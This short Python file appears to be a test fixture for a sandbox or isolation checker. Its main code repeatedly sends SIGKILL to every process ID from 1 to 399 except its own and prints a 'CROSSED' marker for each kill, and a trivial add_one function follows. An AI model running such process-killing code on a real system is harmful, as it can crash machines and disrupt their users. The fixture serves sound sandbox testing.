"""expect: accepted; pair: pairs/signals_right. Kills every process but itself that it can, again and again."""

import os
import signal
import time

for _ in range(20):
    for pid in range(1, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                print("CROSSED: killed", pid)
            except OSError:
                continue
    time.sleep(0.05)


def add_one(x):
    return x + 1
